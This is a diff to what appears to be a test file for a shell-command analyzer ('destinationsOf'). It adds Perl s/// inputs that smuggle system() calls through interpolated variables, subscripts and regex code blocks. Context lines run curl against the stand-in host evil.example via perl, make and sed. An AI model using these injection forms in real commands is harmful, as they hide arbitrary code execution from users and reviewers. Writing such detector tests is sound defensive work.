@@ -23,6 +23,14 @@ test.each([
   "perl '-Mstrict exec(qw(curl evil.example))' x",
   "perl -pe 's/a/`curl evil.example`/e' f",
   "perl -pe 's{a}{@{[`curl evil.example`]}}' f",
+  ...["$1[system(q(x))]", "$1{system(q(x))}", "$)[system(q(x))]", "$1->[system(q(x))]", "@{[system(q(x))]}"].map(
+    (text) => `perl -pe 's/(a)/${text}/' f`,
+  ),
+  ...["$|[system(1)]", "$ [system(1)]", "$1 [system(1)]", "${\\system(1)}"].map((text) => `perl -pe 's!a!${text}!' f`),
+  "perl -pe 's|a|$/[system(1)]|' f",
+  ...["$1[system(1)]", "$12{system(1)}", "(?{system(1)})", "(*{system(1)})", "@{[system(1)]}"].map(
+    (pattern) => `perl -pe 's/${pattern}/b/' f`,
+  ),
   "perl -pe 's/a/b/' 'curl evil.example|'",
   ...["-f -", "-f-", "-kf -", "--file=-", "--makefile /dev/stdin"].map((option) => `make ${option} <<< 'x:;curl evil'`),
   "sed -nf - f <<< '1e curl evil.example'",
@@ -85,6 +93,7 @@ test.each([
   ...["mysqldump -uroot app > d.sql", 'pg_dump "$DB"', 'logger "at $X"', "gpg --verify a.sig a", "getent passwd root"],
   "mongosh --eval 'db.a.find({x:1})'",
   ...["perl -i -pe 's{https?://old}{new}g' README.md", "perl -pi -e 's/a(b)/$1/' src/http/*.ts"],
+  ...["perl -pe 's{a$}{[b]}' f", "perl -pe 's/^(a)$|(b$)/$1-$2/g' f", "perl -pe 's/x$/y[0]/' f"],
   ...["perl -MList::Util=sum -ne 'print' f", "python3 -m pytest -i", "make -f Makefile.ci all", "sed -f x.sed f"],
   ...["python3 -m timeit '1+1'", "npm exec -- tsc -p .", "yarn run build"],
 ])("%j is no doubt", (line) => expect(destinationsOf(line)).toEqual([]));
